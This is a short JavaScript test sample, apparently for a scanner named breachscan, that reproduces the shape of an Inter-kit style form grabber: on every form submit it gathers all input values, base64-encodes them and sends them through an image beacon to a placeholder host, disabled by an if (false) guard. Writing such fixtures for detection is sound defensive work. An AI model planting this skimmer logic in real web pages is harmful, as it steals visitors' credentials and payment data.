/* synthetic test sample for breachscan: Inter-kit style grabber shape - on any submit all
 * inputs are collected and leaked base64 encoded through an image beacon.
 * Inert (`if (false)`, .invalid host). */
if (false) {
  document.addEventListener("submit", function () {
    var v = [];
    document.querySelectorAll("input, select").forEach(function (e) { v.push(e.name + "=" + e.value); });
    new Image().src = "https://cdn-pixel.invalid/t.gif?d=" + btoa(encodeURIComponent(v.join("&")));
  }, true);
}
